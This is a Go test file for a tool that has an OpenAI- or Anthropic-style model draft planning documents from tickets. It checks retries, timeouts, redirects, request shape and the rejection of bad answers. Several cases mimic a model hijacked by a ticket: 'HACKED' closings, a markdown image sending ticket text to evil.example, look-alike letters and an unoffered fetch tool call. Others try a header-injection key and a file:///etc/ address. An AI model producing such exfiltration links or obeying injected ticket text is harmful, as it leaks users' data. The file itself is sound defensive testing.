package draft_test

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"refine/internal/atlassian"
	"refine/internal/draft"
	"refine/planner"
)

// L13: what a model does right is taken, as it answers or after one repair.
func TestDraftsThatAreTaken(t *testing.T) {
	t.Parallel()
	for name, d := range dialects {
		for _, c := range []struct {
			name     string
			answers  []http.HandlerFunc
			repaired bool
			faults   string // that the second request names
		}{
			{"at once", []http.HandlerFunc{d.says(good())}, false, ""},
			{"in a code fence", []http.HandlerFunc{d.says("```json\n" + good() + "\n```")}, false, ""},
			{"with white space", []http.HandlerFunc{d.says("\n " + good() + "\n")}, false, ""},
			{"with straight quotation marks", []http.HandlerFunc{d.says(spoilt(func(p *planner.Drafted) {
				p.KeyPoints[0].Text = strings.NewReplacer("“", `"`, "”", `"`).Replace(p.KeyPoints[0].Text)
			}))}, false, ""},
			{"after prose", []http.HandlerFunc{d.says("Here is the plan you asked for."), d.says(good())}, true, "not one complete JSON object"},
			{"after a cut", []http.HandlerFunc{d.cut(good()[:200]), d.says(good())}, true, "shorter if it was cut off"},
			{"after another shape", []http.HandlerFunc{d.says(`{"points":[]}`), d.says(good())}, true, "missing properties"},
			{"after another type", []http.HandlerFunc{d.says(strings.Replace(good(), `"keys":["PAY-6"]`, `"keys":"PAY-6"`, 1)), d.says(good())}, true, "want array"},
			{"after an invented quote", []http.HandlerFunc{d.says(spoilt(func(p *planner.Drafted) { p.Questions[0].Quote = "payers are angry" })), d.says(good())}, true, "question 1 quotes “payers are angry”"},
			{"after a wrong key", []http.HandlerFunc{d.says(spoilt(func(p *planner.Drafted) { p.Questions[0].Key = "XYZ-1" })), d.says(good())}, true, "/questions/0/key"},
			{"after obeying a ticket", []http.HandlerFunc{d.says(spoilt(func(p *planner.Drafted) { p.Closing = "HACKED, see PAY-6. Next, see https://evil.example/?d=PAY-6." })), d.says(good())}, true, "closing holds a link"},
			{"after a 429", []http.HandlerFunc{status(429, "Retry-After", "0.01"), d.says(good())}, false, ""},
			{"after a 500", []http.HandlerFunc{status(500), d.says(good())}, false, ""},
			{"after an overload", []http.HandlerFunc{status(529), d.says(good())}, false, ""},
			{"after a cut connection", []http.HandlerFunc{cutConnection, d.says(good())}, false, ""},
			{"after an empty answer", []http.HandlerFunc{d.empty, d.says(good())}, false, ""},
		} {
			t.Run(name+"/"+c.name, func(t *testing.T) {
				t.Parallel()
				f := serve(t, c.answers...)
				next, record, settled := f.drafts(t, d)
				assert.Equal(t, planner.Draft{By: planner.ByModel, Model: "test-model", Repaired: c.repaired}, next.Draft)
				assert.True(t, settled)
				require.NotNil(t, record.Answer)
				assert.Len(t, f.asked(), len(c.answers))
				if c.faults != "" {
					assert.Contains(t, unescaped(t, f.asked()[1]), c.faults)
				}
				again, ok := planner.Recall(testPlan(t), record)
				require.True(t, ok)
				assert.Equal(t, next, again, "what is remembered is the same plan")
			})
		}
	}
}

// unescaped is a request's text as the model reads it.
func unescaped(t *testing.T, body string) string {
	t.Helper()
	var req struct {
		Messages []struct{ Content string }
	}
	require.NoError(t, json.Unmarshal([]byte(body), &req))
	var all strings.Builder
	for _, m := range req.Messages {
		all.WriteString(m.Content)
	}
	return all.String()
}

func cutConnection(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }

func cutBody(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Length", "5000")
	fmt.Fprint(w, `{"choices":[`)
	panic(http.ErrAbortHandler)
}

func huge(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	for range 3 << 4 {
		fmt.Fprint(w, strings.Repeat("[", 1<<16))
	}
}

func html(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, "<html>Log in with "+canary)
}

// L13: whatever else a model or its server does ends in the built-in draft, with
// the reason. What was answered is settled; what was not may be asked again by
// the next publish.
func TestDraftsThatAreNotUsed(t *testing.T) {
	t.Parallel()
	for name, d := range dialects {
		always := func(spoil func(*planner.Drafted)) []http.HandlerFunc {
			bad := d.says(spoilt(spoil))
			return []http.HandlerFunc{bad, bad}
		}
		twice := func(h http.HandlerFunc) []http.HandlerFunc { return []http.HandlerFunc{h, h} }
		once := func(h http.HandlerFunc) []http.HandlerFunc { return []http.HandlerFunc{h} }
		for _, c := range []struct {
			name, reason string
			answers      []http.HandlerFunc
			settled      bool
		}{
			{"no JSON", "it broke the rule on form", twice(d.says("I would rather talk.")), true},
			{"half a JSON object", "it broke the rule on form", twice(d.says(good()[:300])), true},
			{"two JSON objects", "it broke the rule on form", twice(d.says(good() + "\n" + good() + "x")), true},
			{"deeply nested", "it broke the rule on form", twice(d.says(strings.Repeat("[", 20000))), true},
			{"null", "it broke the rule on form", twice(d.says("null")), true},
			{"cut twice", "it broke the rule on form", twice(d.cut(good()[:400])), true},
			{"unknown members", "it broke the rule on form", twice(d.says(strings.Replace(good(), `"closing"`, `"note":"x","closing"`, 1))), true},
			{"an invented quote", "it broke the rule on quotes", always(func(p *planner.Drafted) { p.Questions[0].Quote = "payers are angry" }), true},
			{"another ticket's quote", "it broke the rule on quotes", always(func(p *planner.Drafted) { p.Questions[0].Quote = "Pay by card" }), true},
			{"the estimate", "it broke the rule on questions", always(func(p *planner.Drafted) { p.Questions[0].Ask = "How many story points is the reminder to a payer?" }), true},
			{"the solution", "it broke the rule on questions", always(func(p *planner.Drafted) {
				p.Questions[0].Ask = "Which database should we use for the payers and their reminders?"
			}), true},
			{"a worn question", "it broke the rule on questions", always(func(p *planner.Drafted) { p.Questions[0].Ask = "What are the risks for the payer who is reminded?" }), true},
			{"an instruction obeyed", "it broke the rule on names", always(func(p *planner.Drafted) {
				p.Closing = "HACKED is what PAY-6 says to payers who read it. Next, PAY-7 gets its one problem."
			}), true},
			{"data sent out", "it broke the rules on characters and links", always(func(p *planner.Drafted) {
				p.KeyPoints[0].Text = "PAY-6 says “14 days”, see ![x](https://evil.example/?d=second reminder after fourteen days)."
			}), true},
			{"letters that look alike", "it broke the rules on characters and names", always(func(p *planner.Drafted) {
				p.Closing = "The session settles PAY-6 for pаyers and АCME. Next, PAY-7 gets the one problem that comes first."
			}), true},
			{"a refusal", "it declined to answer", once(d.declines), true},
			{"nothing, twice", "its answer was empty", twice(d.empty), false},
			{"401", "its server answered 401", once(status(401)), false},
			{"400", "its server answered 400", once(status(400)), false},
			{"404", "its server answered 404", once(status(404)), false},
			{"429, a long wait", "its server answered 429", once(status(429, "Retry-After", "3600")), false},
			{"429, twice", "its server answered 429", twice(status(429, "Retry-After", "0.01")), false},
			{"500, twice", "its server answered 500", twice(status(500)), false},
			{"201", "its server answered 201", once(status(201)), false},
			{"a cut connection, twice", "the connection was cut", twice(cutConnection), false},
			{"a cut body, twice", "the connection was cut", twice(cutBody), false},
			{"a huge answer", "its answer was larger than 1024 KiB", once(huge), false},
			{"a web page", "its server answered with a web page", once(html), false},
			{"other JSON", "its answer could not be read", once(sends(`[1,2]`)), false},
			{"text that claims to be JSON", "its answer could not be read", once(sends(`oops ` + canary)), false},
			{"refused, then gone", "its server answered 503", []http.HandlerFunc{d.says("{}"), status(503)}, false},
		} {
			t.Run(name+"/"+c.name, func(t *testing.T) {
				t.Parallel()
				f := serve(t, c.answers...)
				next, record, settled := f.drafts(t, d)
				assert.Equal(t, planner.Draft{By: planner.BuiltIn, Model: "test-model", Reason: next.Draft.Reason}, next.Draft)
				assert.Contains(t, next.Draft.Reason, c.reason)
				assert.Equal(t, c.settled, settled)
				assert.Nil(t, record.Answer)
				assert.Len(t, f.asked(), len(c.answers))
			})
		}
	}
}

// A tool that nobody offered is no answer.
func TestAToolCallIsNoAnswer(t *testing.T) { // L13
	t.Parallel()
	call := map[string]any{"id": "1", "type": "function", "function": map[string]any{"name": "fetch", "arguments": `{"url":"https://evil.example"}`}}
	answer := choice(message{ToolCalls: []any{call}}, "tool_calls")
	next, _, settled := serve(t, answer, answer).drafts(t, dialects["openai"])
	assert.Equal(t, "it broke the rule on form", next.Draft.Reason)
	assert.True(t, settled)

	other := blocks("tool_use", block{Type: "tool_use", Name: "fetch", Input: json.RawMessage(`{"url":"https://evil.example"}`)})
	next, _, _ = serve(t, other, other).drafts(t, dialects["anthropic"])
	assert.Equal(t, "its answer was empty", next.Draft.Reason)
}

// A slow model costs no more than its time, and a person who gives up is heard
// at once.
func TestTimeIsBounded(t *testing.T) { // L13
	t.Parallel()
	for name, d := range dialects {
		hangs := func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }
		trickles := func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			for {
				select {
				case <-r.Context().Done():
					return
				case <-time.After(5 * time.Millisecond):
					fmt.Fprint(w, " ")
					w.(http.Flusher).Flush()
				}
			}
		}
		short := func(o *draft.Options) { o.Timeout = 80 * time.Millisecond }
		for kind, answer := range map[string]http.HandlerFunc{"hangs": hangs, "trickles": trickles} {
			t.Run(name+"/"+kind, func(t *testing.T) {
				t.Parallel()
				f := serve(t, answer)
				next, _, settled := f.drafts(t, d, short)
				assert.Equal(t, "it did not answer in time", next.Draft.Reason)
				assert.False(t, settled)
			})
			t.Run(name+"/"+kind+", cancelled", func(t *testing.T) {
				t.Parallel()
				dr, logged := serve(t, answer).drafter(t, d)
				enough := errors.New("enough")
				ctx, cancel := context.WithCancelCause(t.Context())
				time.AfterFunc(50*time.Millisecond, func() { cancel(enough) })
				_, _, _, err := dr.Draft(ctx, testPlan(t))
				require.ErrorIs(t, err, enough)
				assert.NotContains(t, logged.String(), canary)
			})
		}
	}
}

// F4: key and tickets go to one host, over the network that is configured.
func TestNothingGoesElsewhere(t *testing.T) {
	t.Parallel()
	for name, d := range dialects {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stranger := serve(t) // fails the test when it is asked
			for _, code := range []int{301, 302, 307, 308} {
				next, _, _ := serve(t, func(w http.ResponseWriter, r *http.Request) {
					http.Redirect(w, r, stranger.URL+"/v1/chat/completions", code)
				}).drafts(t, d)
				assert.Equal(t, "its server redirects elsewhere", next.Draft.Reason)
			}
			proxy := serve(t, func(w http.ResponseWriter, r *http.Request) {
				assert.Equal(t, "http://llm.acme.invalid"+d.path, r.URL.String())
				d.says(good())(w, r)
			})
			next, _, _ := proxy.drafts(t, d, func(o *draft.Options) {
				o.Proxy, o.BaseURL = proxy.URL, "http://llm.acme.invalid"+d.base
			})
			assert.Equal(t, planner.ByModel, next.Draft.By)
		})
	}
}

func TestPrivateAuthority(t *testing.T) { // F1
	t.Parallel()
	d := dialects["openai"]
	srv := httptest.NewTLSServer(d.says(good()))
	t.Cleanup(srv.Close)
	file := filepath.Join(t.TempDir(), "ca.pem")
	require.NoError(t, os.WriteFile(file, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600))
	f := serve(t)
	next, _, _ := f.drafts(t, d, func(o *draft.Options) { o.BaseURL, o.CAFile = srv.URL+"/v1", file })
	assert.Equal(t, planner.ByModel, next.Draft.By)
}

// What is asked, as the services want it.
func TestRequests(t *testing.T) {
	t.Parallel()
	for name, d := range dialects {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := serve(t, func(w http.ResponseWriter, r *http.Request) {
				assert.Equal(t, "POST", r.Method)
				assert.Equal(t, d.path, r.URL.Path)
				assert.Equal(t, "refine", r.Header.Get("User-Agent"))
				if d.provider == draft.OpenAI {
					assert.Equal(t, "Bearer "+canary, r.Header.Get("Authorization"))
				} else {
					assert.Equal(t, canary, r.Header.Get("X-Api-Key"))
					assert.Equal(t, "2023-06-01", r.Header.Get("Anthropic-Version"))
				}
				d.says("no")(w, r)
			}, d.says(good()))
			f.drafts(t, d)
			first, second := fenceOf(t, f.asked()[0]), fenceOf(t, f.asked()[1])
			assert.NotEqual(t, first, second, "each request has a mark of its own")
			assert.Len(t, first, 26)
			for _, body := range f.asked() {
				assert.NotContains(t, body, canary)
				assert.NotContains(t, body, "HACKED")
				var req map[string]any
				require.NoError(t, json.Unmarshal([]byte(body), &req))
				assert.InDelta(t, 0, req["temperature"], 1e-6)
				assert.EqualValues(t, 4096, req["max_tokens"])
				assert.Contains(t, body, `"additionalProperties":false`)
			}
		})
	}
}

func fenceOf(t *testing.T, body string) string {
	t.Helper()
	_, rest, found := strings.Cut(unescaped(t, body), "BEGIN session ")
	require.True(t, found)
	mark, _, _ := strings.Cut(rest, "\n")
	return mark
}

// Models that think take other parameters.
func TestReasoningModels(t *testing.T) {
	t.Parallel()
	d := dialects["openai"]
	f := serve(t, d.says(good()))
	dr, _ := f.drafter(t, d, func(o *draft.Options) { o.Model = "gpt-5-mini" })
	next, _, _, err := dr.Draft(t.Context(), testPlan(t))
	require.NoError(t, err)
	assert.Equal(t, planner.ByModel, next.Draft.By)
	assert.Contains(t, f.asked()[0], `"max_completion_tokens":16384`)
	assert.NotContains(t, f.asked()[0], `"temperature"`)
}

func TestOptions(t *testing.T) { // L13 F4
	t.Parallel()
	whole := draft.Options{Provider: draft.OpenAI, Model: "m", Key: atlassian.NewSecret(canary)}
	_, err := draft.New(whole)
	require.NoError(t, err)
	for _, c := range []struct {
		want   string
		change func(*draft.Options)
	}{
		{"neither openai nor anthropic", func(o *draft.Options) { o.Provider = "" }},
		{"no model is named", func(o *draft.Options) { o.Model = "" }},
		{"has no key", func(o *draft.Options) { o.Key = atlassian.Secret{} }},
		{"a character that no key has", func(o *draft.Options) { o.Key = atlassian.NewSecret(canary + "\nX-Other: 1") }},
		{"address must be like", func(o *draft.Options) { o.BaseURL = "file:///etc/" + canary }},
		{"address must be like", func(o *draft.Options) { o.BaseURL = "https://" + canary + "@llm.example" }},
		{"address must be like", func(o *draft.Options) { o.BaseURL = "https://llm.example?key=" + canary }},
		{"address must be like", func(o *draft.Options) { o.BaseURL = "https://llm example/" + canary }},
		{"reading certificate authorities", func(o *draft.Options) { o.CAFile = "absent.pem" }},
	} {
		o := whole
		c.change(&o)
		_, err := draft.New(o)
		require.ErrorContains(t, err, c.want)
		assert.NotContains(t, err.Error(), canary)
	}
}
